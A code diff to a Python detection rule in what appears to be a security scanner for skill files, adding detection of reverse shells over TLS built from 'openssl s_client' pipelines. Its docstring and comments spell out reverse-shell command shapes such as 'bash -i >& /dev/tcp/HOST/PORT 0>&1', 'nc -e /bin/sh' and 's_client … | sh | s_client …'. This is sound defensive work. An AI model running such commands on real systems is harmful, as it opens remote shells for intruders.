@@ -4,7 +4,8 @@
 Finds the classic reverse-shell shapes: `bash -i >& /dev/tcp/HOST/PORT 0>&1` (any
 redirection to a remote `/dev/tcp`, also in a Dockerfile `CMD` or `HEALTHCHECK`),
 `nc -e /bin/sh`, `ncat --exec`, `socat … exec:`, a `mkfifo` pipe through `nc` into a
-shell, Python that connects a socket and then `os.dup2`s it or spawns a shell
+shell, `openssl s_client` (netcat over TLS) in a pipeline with a shell that reads its
+input (also through Makefile variables such as `SC = $(OPENSSL) s_client`), Python that connects a socket and then `os.dup2`s it or spawns a shell
 (`pty.spawn`, `subprocess` with the socket's descriptor as stdin/stdout, however it got
 there), Node `net` sockets piped into a spawned shell, and PowerShell `TCPClient` loops
 that `Invoke-Expression` what they read.
@@ -30,6 +31,7 @@ import re
 from collections.abc import Iterator
 
 from skcc.analyzers.rules._scan import once, report, units
+from skcc.analyzers.scan.facts import SHELLS
 from skcc.diagnostics import Confidence, Diagnostic, Severity
 from skcc.rules import Rule
 
@@ -86,9 +88,13 @@ def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
                 yield report(RULE, unit, command.line, "`socat` connects a program to a "
                              "network address", HELP)
             elif program in ("nc", "ncat", "netcat", "telnet") and \
-                    any(c.program in ("sh", "bash", "zsh") for c in facts.pipeline(command)):
-                yield report(RULE, unit, command.line, f"`{program}` output is fed to a "
-                             "shell", HELP)
+                    any(c.program in ("sh", "bash", "zsh") for c in facts.pipeline(command)) \
+                    or _tls_client(command) and any(
+                        c.program in SHELLS and not [a for a in c.args if a[:1] != "-"]
+                        for c in facts.pipeline(command)):
+                yield report(RULE, unit, command.line, "`openssl s_client` and a shell "
+                             "share a pipeline (a reverse shell over TLS)" if program ==
+                             "openssl" else f"`{program}` output is fed to a shell", HELP)
         for m in INTERACTIVE_TO_ONE_PLACE.finditer(unit.text):
             if not REMOTE_DEV_TCP.search(m.group()) and "/dev/tcp/127." not in m.group():
                 line = unit.first_line + unit.text.count("\n", 0, m.start())
@@ -116,6 +122,13 @@ def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
                 line = unit.first_line + unit.text.count("\n", 0, m.start())
                 yield report(RULE, unit, line, "a TCP client runs what it receives with "
                              "Invoke-Expression", HELP)
+
+
+def _tls_client(command) -> bool:  # type: ignore[no-untyped-def]
+    """`openssl s_client -connect host:port`: netcat over TLS (the encrypted reverse shell
+    `s_client … | sh | s_client …`)."""
+    return command.program == "openssl" and "s_client" in command.args and \
+        any(a in ("-connect", "-quiet") for a in command.args)
 
 
 def _socket_as_stdio(facts) -> bool:  # type: ignore[no-untyped-def]
